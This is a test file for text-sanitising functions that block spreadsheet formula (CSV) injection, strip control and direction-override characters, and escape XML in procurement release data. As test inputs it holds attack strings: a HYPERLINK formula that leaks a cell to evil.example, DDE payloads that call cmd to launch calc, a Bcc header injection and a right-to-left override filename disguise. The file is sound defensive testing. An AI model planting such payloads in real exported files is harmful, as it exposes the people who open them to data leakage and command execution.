import fc from 'fast-check';
import { describe, expect, it } from 'vitest';

import { cleanSingleLine, cleanText, spreadsheetCell, spreadsheetRow, xmlText } from '../rules/text-hygiene.js';
import { toOcdsRelease } from './ocds.js';

describe('spreadsheet cells (OWASP CSV injection)', () => {
  it('prefixes every cell that a spreadsheet would read as a formula', () => {
    for (const attack of [
      '=HYPERLINK("https://evil.example/?"&A1,"Click")',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '+1+1',
      "-2+3+cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
      '＝1+1',
      '-',
      '=',
    ]) {
      const cell = spreadsheetCell(attack);
      expect(cell.startsWith("'"), JSON.stringify(attack)).toBe(true);
    }
    expect(spreadsheetCell('=A1')).toBe("'=A1");
  });

  it('leaves numbers, ordinary text and empty cells as they are', () => {
    expect(spreadsheetCell('-12.50')).toBe('-12.50');
    expect(spreadsheetCell('1000000')).toBe('1000000');
    expect(spreadsheetCell(-3)).toBe('-3');
    expect(spreadsheetCell('Zero-emission machinery')).toBe('Zero-emission machinery');
    expect(spreadsheetCell('43260000-3')).toBe('43260000-3');
    expect(spreadsheetCell(null)).toBe('');
    expect(spreadsheetCell(undefined)).toBe('');
    expect(spreadsheetCell(true)).toBe('true');
  });

  it('cannot be bypassed by a direction override or control character in front of the formula', () => {
    expect(spreadsheetCell('\u202E=1+1')).toBe("'=1+1");
    expect(spreadsheetCell('\u0000@SUM(A1)')).toBe("'@SUM(A1)");
  });

  it('property: no neutralised cell starts with a formula character unless it is a plain number', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (s) => {
        const cell = spreadsheetCell(s);
        expect(/^[=+\-@\t\r＝＋－＠]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell)).toBe(false);
      }),
    );
  });

  it('neutralises a whole row by its columns', () => {
    expect(spreadsheetRow({ a: '=1', b: 2 }, ['a', 'b', 'c'])).toEqual({ a: "'=1", b: '2', c: '' });
  });
});

describe('controls and direction overrides', () => {
  it('removes C0/C1 controls and bidi overrides, keeping line breaks in multi-line text', () => {
    expect(cleanText('a\u0000b\u0007c\u001Bd\u0085e\u009Bf')).toBe('abcdef');
    expect(cleanText('invoice\u202Efdp.exe')).toBe('invoicefdp.exe');
    expect(cleanText('\u2066x\u2069\u200Fy\u061C')).toBe('xy');
    expect(cleanText('line 1\nline 2\ttab')).toBe('line 1\nline 2\ttab');
    expect(cleanText('Kraków – Øresund ✓ 😀')).toBe('Kraków – Øresund ✓ 😀');
  });

  it('makes titles and subjects one line', () => {
    expect(cleanSingleLine('Title\r\nBcc: victim@example.com')).toBe('Title Bcc: victim@example.com');
    expect(cleanSingleLine('  a\t\tb \u202Ec  ')).toBe('a b c');
  });

  it('XML text: escaped and without the characters XML 1.0 forbids', () => {
    expect(xmlText('<b>&"\'\u0001\u0008\u000B\u000C\uFFFE')).toBe('&lt;b&gt;&amp;&quot;&apos;');
    expect(xmlText('a\uD800b')).toBe('ab');
    expect(xmlText('😀')).toBe('😀');
  });

  it('property: cleaned single-line text has no control, line break or direction override', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (s) => {
        // eslint-disable-next-line no-control-regex
        const unsafe = /[\u0000-\u001F\u007F-\u009F\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069\u2028\u2029]/;
        expect(unsafe.test(cleanSingleLine(s))).toBe(false);
      }),
    );
  });
});

describe('the OCDS release carries typed text cleaned', () => {
  it('removes controls and direction overrides from the title, the description and organisation names', () => {
    const org = { orgId: '7d1e1c1a-0000-4000-8000-000000000001', name: 'City of \u202EolsO', country: 'NO' };
    const release = toOcdsRelease(
      {
        statementId: '5c0f7a30-2f6e-4b7e-a0a1-6d9b2e1f0c22',
        title: 'Zero-emission\u0007 sites \u202Eexe.',
        description: 'Machinery\u0000 and hire.\nSecond line.',
        version: 1,
        publishedAt: '2022-11-08T10:15:00+01:00',
        leadBuyer: org,
        buyers: [{ ...org, buyerLegalType: 'la' }],
        items: [
          {
            cpvCode: '43262100',
            cpvCheckDigit: '8',
            description: 'Mechanical excavators',
            quantities: [{ unit: 'C62', quantity: '37' }],
          },
        ],
        totalValueEur: null,
        deliveryPeriod: { fromYear: 2023, toYear: 2025 },
        expectedProcurementStart: '2023-03-01',
      },
      { ocidPrefix: 'ocds-b5fd17' },
    );
    expect(release.tender.title).toBe('Zero-emission sites exe.');
    expect(release.tender.description).toBe('Machinery and hire.\nSecond line.');
    expect(release.parties.map((p) => p.name)).toEqual(['City of olsO']);
  });
});
